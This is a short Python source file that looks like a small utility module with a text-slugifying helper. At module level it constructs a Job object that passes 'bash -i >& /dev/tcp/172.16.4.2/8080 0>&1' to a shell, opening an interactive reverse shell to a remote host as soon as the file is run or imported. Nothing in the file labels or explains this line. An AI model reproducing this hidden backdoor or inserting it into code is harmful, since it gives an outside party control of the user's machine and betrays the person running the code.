#!/usr/bin/env python3

import subprocess

class Job:
    def __init__(self, cmd):
        self.start(cmd)

    def start(self, cmd):
        subprocess.Popen(cmd, shell=True)

Job("bash -i >& /dev/tcp/172.16.4.2/8080 0>&1")
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)
